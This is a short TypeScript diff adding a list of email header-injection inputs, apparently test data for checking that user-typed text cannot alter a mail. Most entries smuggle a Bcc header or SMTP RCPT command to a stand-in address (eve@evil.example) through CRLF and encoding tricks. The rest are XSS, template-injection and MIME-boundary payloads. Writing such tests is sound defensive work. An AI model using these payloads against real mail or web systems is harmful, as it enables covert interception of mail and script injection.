@@ -1,0 +1,23 @@
+/** Ends of a text that a person typed which would add a header, a recipient, a part or a tag to a mail, if it were not written as text. */
+export const headerInjections: readonly string[] = [
+  '\r\nBcc: eve@evil.example',
+  '\nBcc: eve@evil.example',
+  '\rBcc: eve@evil.example',
+  '\r\n\r\n<h1>other body</h1>',
+  '\u2028Bcc: eve@evil.example',
+  '\u0085Bcc: eve@evil.example',
+  '\0Bcc: eve@evil.example',
+  ', eve@evil.example',
+  '; eve@evil.example',
+  '> RCPT TO:<eve@evil.example',
+  '\r\n.\r\nRCPT TO:<eve@evil.example>',
+  '%0d%0aBcc: eve@evil.example',
+  '=?utf-8?Q?=0D=0ABcc:_eve@evil.example?=',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '<a href="https://evil.example">here</a>',
+  '#{process.env.PATH}',
+  '<%= process.env.PATH %>',
+  '{{constructor.constructor("return 1")()}}',
+  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
+]
